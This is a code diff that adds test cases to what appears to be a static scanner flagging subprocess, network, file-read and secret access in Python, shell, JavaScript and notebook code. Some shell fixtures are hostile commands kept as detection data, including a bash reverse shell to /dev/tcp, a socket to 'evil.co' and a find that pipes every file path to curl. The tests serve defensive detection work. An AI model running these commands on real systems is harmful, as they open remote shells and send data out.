@@ -72,6 +72,8 @@ PYTHON = [
     ("import re\nre.compile('x'); 'a'.replace('b', 'c'); d.get('https')", set()),
     ('"""See https://docs.example.io; os.system is not called."""', set()),
     ("import json, sys, argparse, csv\njson.load(sys.stdin)", set()),
+    ("def (:", {"unreadable Python that can't be parsed"}),
+    ("x = 1\nprint(x)", set()),
     ("import a b", {"unreadable Python that can't be parsed"}),
 ]  # fmt: skip
 
@@ -126,6 +128,21 @@ SHELL = [
     ("env -i X=1 make", {"subprocess make"}),
     ("a=(curl wget)\nmake", {"subprocess make"}),
     ("echo $(( x + 1 )) # $(id)", set()),
+    ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", {"subprocess bash", "network 1.2.3.4"}),
+    ("exec 5<>/dev/tcp/evil.co/80; cat <&5 > /dev/null", {"network evil.co", "subprocess cat"}),
+    ("echo x > /dev/udp/$1/80", {"network any host"}),
+    ("find / -exec curl http://a.co {} \\;", {"subprocess find", "subprocess curl", "network a.co"}),
+    ("find . -name x -exec rm {} + -delete", {"subprocess find", "subprocess rm", "writes any file (removed)"}),
+    ("find . -exec sh -c 'make \"$1\"' _ {} ';'", {"subprocess find", "subprocess sh", "subprocess make"}),
+    ("cat < /etc/hosts", {"subprocess cat", "reads /etc/hosts"}),
+    ("while read line; do :; done < \"$1\"; sort < <(ls) 2>&1", {"reads any file", "subprocess sort", "subprocess ls"}),
+    ("read x <<< \"$SECRET1\"; echo $x", {"environment SECRET1"}),
+    ('if [[ "$1" == "x" || "$2" == "y" ]]; then echo 1; fi', set()),
+    ('if [[ $1 = x && -f "$2" ]] && ! [[ $1 =~ ^(a|b)$ || $(id) < c ]]; then make; fi',
+     {"subprocess id", "subprocess make"}),
+    ("[[ a\ncurl http://a.co\n[[ b ]]", {"subprocess curl", "network a.co"}),
+    ("#!/bin/sh\n[[ a || curl http://a.co ]]", {"subprocess curl", "network a.co"}),
+    ("make && \\\n  ninja", {"subprocess make", "subprocess ninja"}),
 ]  # fmt: skip
 
 JAVASCRIPT = [
@@ -133,6 +150,10 @@ JAVASCRIPT = [
     ("import {spawn} from 'node:child_process'; spawn('npm', ['install', 'x'])",
      {"subprocess npm", "install x (npm)", "network a package registry"}),
     ("import * as cp from 'child_process'\ncp.execSync(`curl ${url}`)", {"subprocess curl", "network any host"}),
+    ("const cp = require('child_process'); const {exec: ex} = cp; ex('id')", {"subprocess id"}),
+    ("import * as cp from 'child_process'; const go = cp.spawn; go('id')", {"subprocess id"}),
+    ("const get = fetch; get('https://a.co')", {"network a.co"}),
+    ("import {exec} from 'child_process'; const out = exec('id'); out('x')", {"subprocess id"}),
     ("require('child_process').execSync('id')", {"subprocess id"}),
     ("const cp = await import('node:child_process'); cp.exec('id')", {"subprocess id"}),
     ("import cp from 'child_process'", {"subprocess any program"}),
@@ -184,6 +205,27 @@ def test_a_finding_says_its_line_and_column_in_characters() -> None:
     shell = one("a.sh", "# é\n: 'é'; git log\n", "subprocess")
     assert (python.line, python.column) == (4, 14)
     assert (shell.line, shell.column) == (2, 8)
+
+
+def test_a_line_end_in_quotes_is_no_line_of_the_file() -> None:
+    inner = r'import os\n\n\nos.system("dig x.co")'
+    python = scan_file("a.py", f"import subprocess\nsubprocess.run(['python', '-c', '{inner}'])\n".encode())
+    shell = scan_file("a.sh", f"python -c $'{inner}'\n".encode())
+    assert {one.line for one in python if one.what == "dig"} == {2}
+    assert {one.line for one in shell} == {1}
+    spread = scan_file("a.sh", b"python -c 'import os\n\nos.system(\"dig x.co\")\n'\n")
+    assert {one.line for one in spread if one.what == "dig"} == {3}
+
+
+def test_a_notebook_finding_has_the_line_of_its_cell() -> None:
+    cells = [
+        r'"import os\nx = os.sep\nos.getenv(\"A\")"',
+        '[\n"import os\\n",\n"os.getenv(\'B\')"]',
+        '["df?\\n", "x = 1"]',
+    ]
+    text = '{"cells": [\n' + ",\n".join(f'{{"cell_type": "code", "source": {cell}}}' for cell in cells) + "]}\n"
+    lines = {one.what: one.line for one in scan_file("a.ipynb", text.encode())}
+    assert lines == {"A": 2, "B": 5}
 
 
 def test_the_evidence_is_the_whole_call() -> None:
